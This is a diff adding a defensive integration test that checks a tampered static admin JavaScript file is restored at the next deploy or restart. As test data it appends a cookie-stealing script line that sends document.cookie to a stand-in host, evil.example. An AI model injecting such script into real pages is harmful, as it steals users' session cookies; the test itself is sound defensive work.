@@ -1,10 +1,12 @@
 """The static folder, served by nginx from the bind mount: hashed files with an immutable cache
 header and never from gunicorn, only the folder's own regular files (no symlink, no dotfile, no
-half-published file, no escape from it), and no document in it that can run script."""
+half-published file, no escape from it), no document in it that can run script, and no file
+changed there that outlives the next deploy or start."""
 
 import re
 import secrets
 
+from tests.harness import wait_for
 from tests.harness.http import policy
 
 
@@ -92,3 +94,26 @@ def test_dotfiles_are_never_served(stack):
     finally:
         for path in (hidden, visible, partial):
             path.unlink(missing_ok=True)
+
+
+def test_a_tampered_static_file_is_replaced_at_the_next_deploy_and_at_the_next_start(stack):
+    """Script appended to a served admin file (nginx serves it `immutable` for a year) does not
+    survive a deploy's prepare of the same build, nor a restart: the image's bytes come back, logged."""
+    [theme] = stack.static.glob("admin/js/theme.*.js")
+    name, clean = theme.relative_to(stack.static).as_posix(), theme.read_bytes()
+    evil = b"\n;fetch('https://evil.example/?c=' + document.cookie);\n"
+    replaced = f"static files: replaced {name}: it differed from this image's copy"
+    for how in ("deploy", "start"):
+        with theme.open("ab") as served:  # as whoever got to write the folder would
+            served.write(evil)
+        assert stack.nginx.request(f"/static/{name}")[2].endswith(evil.decode())  # the contrast
+        if how == "deploy":  # what scripts/deploy.sh runs first, from the image it deploys
+            log = stack.compose("run", "--rm", "app", "prepare").stderr
+        else:
+            stack.compose("restart", "app")
+            wait_for(lambda: stack.state()["Health"]["Status"] == "healthy", what="healthy after restart")
+            log = stack.logs()
+        assert replaced in log, (how, log)
+        assert theme.read_bytes() == clean, how
+        status, _, body = stack.nginx.request(f"/static/{name}")
+        assert (status, body.encode()) == (200, clean), how
